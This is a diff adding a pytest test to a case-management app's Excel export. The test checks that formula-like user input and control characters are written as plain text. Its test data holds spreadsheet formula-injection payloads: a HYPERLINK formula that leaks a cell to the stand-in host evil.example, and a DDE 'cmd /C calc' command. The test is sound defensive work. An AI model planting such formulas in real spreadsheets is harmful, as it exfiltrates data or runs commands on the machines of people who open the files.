@@ -114,3 +114,40 @@ def test_a_batchs_disclosure_table(
     own = sheet_rows(download(client, f"/api/v1/exports/batches/{batch_ledger.pk}/disclosure.xlsx"))
     assert [r[1] for r in own[2:]] == ["X3JX3"]
     assert client.get("/api/v1/exports/batches/999999/disclosure.xlsx").status_code == 404
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_and_control_characters_do_not_break(
+    supervisor: User, jizhou_officer: User, jizhou: Region
+) -> None:
+    typed = {
+        "investigation": '=HYPERLINK("http://evil.example/leak?d="&B3,"x")',
+        "contact_phone": "=cmd|' /C calc'!A0",
+        "rectification_goal": "@SUM(1+1)",
+    }
+    batch = Batch.objects.create(source=source(), number=9, handed_down_on="2026-11-01")
+    case = new_case(
+        supervisor,
+        jizhou,
+        acceptance_number="FORMULA-1",
+        batch=batch,
+        source=batch.source,
+        summary="第一行\x0b第二行（Word 的换行）\x01",
+    )
+    case_update(case_id=case.pk, user=jizhou_officer, changes=typed)
+    client = APIClient()
+    client.force_authenticate(supervisor)
+    for url in (
+        "/api/v1/exports/ledger.xlsx",
+        f"/api/v1/exports/batches/{batch.pk}/disclosure.xlsx",
+    ):
+        book = load_workbook(io.BytesIO(download(client, url)))
+        sheet = book.worksheets[0]
+        cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], url  # no formula at all
+        by_value = {c.value: c for c in cells}
+        investigation = by_value[typed["investigation"]]
+        assert investigation.data_type == "s" and investigation.quotePrefix
+        assert "第一行\n第二行（Word 的换行）" in by_value
+    ledger = load_workbook(io.BytesIO(download(client, "/api/v1/exports/ledger.xlsx")))
+    values = {c.value for row in ledger.worksheets[0].iter_rows() for c in row}
+    assert typed["contact_phone"] in values and typed["rectification_goal"] in values
